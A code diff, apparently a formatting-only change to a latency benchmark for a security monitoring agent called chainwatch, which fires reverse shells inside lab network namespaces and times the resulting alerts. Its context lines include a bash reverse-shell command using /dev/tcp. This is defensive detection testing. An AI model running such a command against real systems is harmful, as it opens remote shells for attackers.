@@ -69,8 +69,11 @@ def main() -> int:
     work = Path(f"/tmp/chainwatch-latency-{os.getpid()}")
     work.mkdir()
     alerts, log = work / "alerts.jsonl", work / "agent.log"
-    agent = subprocess.Popen([str(ROOT / ".venv/bin/chainwatch"), "run", "--alerts", str(alerts)],
-                             stderr=log.open("w"), stdout=subprocess.DEVNULL)
+    agent = subprocess.Popen(
+        [str(ROOT / ".venv/bin/chainwatch"), "run", "--alerts", str(alerts)],
+        stderr=log.open("w"),
+        stdout=subprocess.DEVNULL,
+    )
     tail = Tail(alerts)
     try:
         deadline = time.monotonic() + 120
@@ -81,8 +84,9 @@ def main() -> int:
         tail.start()
         with NetLab() as lab:
             port = 44444
-            listener = lab.listen_tcp(lab.attacker_ns, port, payload=b"exit\n", duration=args.n * 2 + 30,
-                                      max_conns=args.n)
+            listener = lab.listen_tcp(
+                lab.attacker_ns, port, payload=b"exit\n", duration=args.n * 2 + 30, max_conns=args.n
+            )
             shell = f"bash -i >& /dev/tcp/{lab.attacker_ip4}/{port} 0>&1; exit 0"
             for _ in range(args.n):
                 lab.run(lab.victim_ns, ["bash", "-c", shell], timeout=10)
@@ -99,17 +103,33 @@ def main() -> int:
     latencies = [(seen - alert["chainwatch"]["event_ktime"]) / 1e6 for seen, alert in first_line.values()]
     if not latencies:
         sys.exit("no alerts were written")
-    print(f"alert latency over {len(latencies)} incidents from {args.n} reverse shells "
-          f"(connect syscall -> alert line readable), ms:")
-    print(f"  median {statistics.median(latencies):.2f}  p90 {percentile(latencies, 90):.2f}  "
-          f"p99 {percentile(latencies, 99):.2f}  max {max(latencies):.2f}  min {min(latencies):.2f}")
-    print(f"  targets: median <= 50 ms, p99 <= 250 ms; lines written {len(tail.lines)} "
-          f"({len(tail.lines) / max(1, len(first_line)):.2f} per incident)")
+    print(
+        f"alert latency over {len(latencies)} incidents from {args.n} reverse shells "
+        f"(connect syscall -> alert line readable), ms:"
+    )
+    print(
+        f"  median {statistics.median(latencies):.2f}  p90 {percentile(latencies, 90):.2f}  "
+        f"p99 {percentile(latencies, 99):.2f}  max {max(latencies):.2f}  min {min(latencies):.2f}"
+    )
+    print(
+        f"  targets: median <= 50 ms, p99 <= 250 ms; lines written {len(tail.lines)} "
+        f"({len(tail.lines) / max(1, len(first_line)):.2f} per incident)"
+    )
     if args.json:
-        args.json.write_text(json.dumps({
-            "shells": args.n, "incidents": len(latencies), "lines": len(tail.lines),
-            "median_ms": statistics.median(latencies), "p90_ms": percentile(latencies, 90),
-            "p99_ms": percentile(latencies, 99), "max_ms": max(latencies), "min_ms": min(latencies)}))
+        args.json.write_text(
+            json.dumps(
+                {
+                    "shells": args.n,
+                    "incidents": len(latencies),
+                    "lines": len(tail.lines),
+                    "median_ms": statistics.median(latencies),
+                    "p90_ms": percentile(latencies, 90),
+                    "p99_ms": percentile(latencies, 99),
+                    "max_ms": max(latencies),
+                    "min_ms": min(latencies),
+                }
+            )
+        )
     return 0
 
 
